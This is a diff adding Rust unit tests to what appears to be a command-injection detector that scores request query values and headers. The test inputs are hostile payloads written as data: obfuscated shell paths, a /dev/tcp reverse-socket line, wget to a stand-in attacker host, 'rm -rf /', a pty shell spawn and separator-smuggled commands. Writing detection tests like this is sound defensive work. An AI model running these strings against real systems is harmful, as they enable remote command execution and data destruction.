@@ -1282,6 +1282,89 @@ mod tests {
     }
 
     #[test]
+    fn obfuscated_globs_tools_and_apis() {
+        for a in [
+            // Bracket globs resolving to system paths and commands.
+            "cat /usr/sh[a]re/../e[t]c/group",
+            "/s[b]in/ifconfig",
+            "x; /u[s]r/bin/id",
+            // Expansions building strings (`${VAR:0:1}` is a `/`), arithmetic, sockets.
+            "cd ${HOME:0:1}tmp",
+            "${SHELL%%sh}sh",
+            "echo $[3*7]",
+            "n=$((0x10+1))",
+            "0<&196;exec 196<>$D/tcp/192.0.2.7/9001",
+            "!-3",
+            "ls ~-/secrets",
+            // A command word spelt for a shell, a tool no prose names, an option later on.
+            "x|$v whoami",
+            "q;w''get evil.example",
+            "a;\\r\\m -rf /",
+            "p;cpan -i Foo::Bar",
+            "k; sshpass -p secret ssh root@host",
+            "z; terraform apply; knife ssh 'name:*' uptime",
+            "m;msfconsole -q",
+            "v=1&ipconfig/all",
+            // Argv spelt with commas, process APIs, cmd.exe loops with `%%`, alias builtins.
+            "gcc -wrapper bash,-c,whoami .",
+            "Kernel.system(\"uname\")",
+            "subprocess.getoutput('id')",
+            "__import__(\"pty\").spawn(\"sh\")",
+            "FOR %% IN (a b) DO ECHO %%",
+            "alias -g x=y",
+            ";alias ll=ls",
+            "console.error(process.version)",
+            "console['log'](1)",
+            "x=require[\"child_process\"]",
+            "new Function (\"return this\")()",
+        ] {
+            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
+        }
+        for b in [
+            // Brackets, dollars and tildes in ordinary text.
+            "see [a] and [b]",
+            "/api/users[1]/name",
+            "costs $[0] today",
+            "template ${first_name}",
+            "${server.port}",
+            "approx ~-5 degrees",
+            "great!-) thanks",
+            // Contractions, a tool named in prose, English words after a separator.
+            "I'd like it; you'd too",
+            "whoami is a command",
+            "kubectl is the tool we use",
+            "notes; python tutorial",
+            "a;base64,AAAA",
+            // Methods of ordinary objects, console as a word, aliases in prose.
+            "my.process.run(1)",
+            "the game console (new)",
+            "known by the alias x=1 online",
+            "os.name",
+        ] {
+            assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
+        }
+        // A header value opening with a separator runs a command.
+        let mut out = Vec::new();
+        scan(&Value { part: Part::Header, name: "referer", text: ";env" }, &mut out);
+        assert!(out.iter().any(|h| h.rule == "rce.command-chain"), "{out:?}");
+        let mut out = Vec::new();
+        scan(&Value { part: Part::Header, name: "user-agent", text: "Mozilla/5.0 (X11; Linux x86_64; env)" }, &mut out);
+        assert!(out.is_empty(), "{out:?}");
+    }
+
+    /// The gate's command-start condition holds wherever the separator and leading-command
+    /// rules find a command (they share the reader), and not on plain text.
+    #[test]
+    fn command_start_gate() {
+        for a in ["x;id", "a && whoami", "ls -la", "' whoami", "x\nwget http://e/x", "y|  nc -l 4444", "q;python3.11 -c 1"] {
+            assert!(command_start(a), "{a}");
+        }
+        for b in ["hello world", "Tom; Jerry", "a=1&b=2", "Mozilla/5.0 (X11; Linux x86_64)", "text/html;q=0.9"] {
+            assert!(!command_start(b), "{b}");
+        }
+    }
+
+    #[test]
     fn benign() {
         for b in [
             "Tom & Jerry",
